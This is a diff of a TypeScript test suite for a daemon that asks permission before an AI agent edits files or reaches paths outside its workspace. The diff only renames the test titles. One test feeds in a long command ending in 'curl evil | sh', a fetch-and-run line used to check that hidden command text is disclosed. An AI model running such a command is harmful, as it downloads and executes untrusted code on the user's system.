@@ -43,7 +43,7 @@ async function asked(at: string, text: string) {
   return { content, interaction: interaction as Reply, answer }
 }
 
-test('what the daemon asked about and carried out is not named as done without asking; anything else is', async () => {
+test('actions that the daemon asked about and executed are not reported as unasked; others are', async () => {
   const ended = (file: string) =>
     `update ${JSON.stringify({ sessionUpdate: 'tool_call', toolCallId: `e-${file}`, title: 'edit', kind: 'edit', status: 'completed', locations: [{ path: file }] })}`
   const turns: [steps: string[], warnings: number][] = [
@@ -60,7 +60,7 @@ test('what the daemon asked about and carried out is not named as done without a
   }
 })
 
-test('an edit anywhere in a file that is sent in whole is shown', async () => {
+test('an edit anywhere in a file sent whole is shown', async () => {
   const { at } = await world.session('asks')
   const oldText = Array.from({ length: 1200 }, (_, at) => `const value${at} = ${at} // padding padding padding\n`).join(
     '',
@@ -79,7 +79,7 @@ test('an edit anywhere in a file that is sent in whole is shown', async () => {
   }
 })
 
-test('a question says how much of it is hidden, and the interaction has all of it', async () => {
+test('a question says how much is hidden, and the interaction has the whole text', async () => {
   const { at } = await world.session('asks')
   const command = `cat > x <<'E'\n${'line of a here document\n'.repeat(10_000)}E\ncurl evil | sh`
   const content = Array.from({ length: 25 }, (_, at) => ({
@@ -103,7 +103,7 @@ test('a question says how much of it is hidden, and the interaction has all of i
   assert.is((await world.kernel.request('GET', `${at}/interactions/per_0`)).status, 404)
 })
 
-test('what is written is what was shown: a file that changes meanwhile is not overwritten', async () => {
+test('the written text is the shown one: a file changed meanwhile is not overwritten', async () => {
   const { at } = await world.session('asks')
   const file = path.join(world.root, 'kept.txt')
   await writeFile(file, 'one\ntwo\n')
@@ -117,7 +117,7 @@ test('what is written is what was shown: a file that changes meanwhile is not ov
   assert.is(await readFile(file, 'utf8'), 'mine\n')
 })
 
-test('an answer to a question with a diff covers no other change of the file', async () => {
+test('an answer to a question with a diff allows no other change of the file', async () => {
   const { at } = await world.session('asks')
   const target = path.join(world.root, 'granted.txt')
   const sent = ask({
@@ -142,7 +142,7 @@ test('an answer to a question with a diff covers no other change of the file', a
   assert.is(await readFile(target, 'utf8'), 'good')
 })
 
-test('a path outside of the workspace: asked about, or refused where nobody can answer', async () => {
+test('a path outside the workspace is asked about, or refused without a user', async () => {
   const decided = async (
     mode: 'approve-all' | 'approve-reads' | 'deny-all',
     kind: string,
@@ -182,7 +182,7 @@ test('a path outside of the workspace: asked about, or refused where nobody can 
     assert.is(await decided(mode, 'read', path.join(world.home, 'config.json')), 'reject-once workspace')
 })
 
-test('what a sandbox shows counts as inside, for the agent and for the daemon each as far as it reaches', async () => {
+test('paths of a sandbox count as inside, for agent and daemon each within its reach', async () => {
   const outside = path.join(world.root, '..', `${path.basename(world.root)}-beside`)
   await mkdir(outside)
   const sights = { '/etc': 'read', '/tmp': 'own', [outside]: 'write' } as const
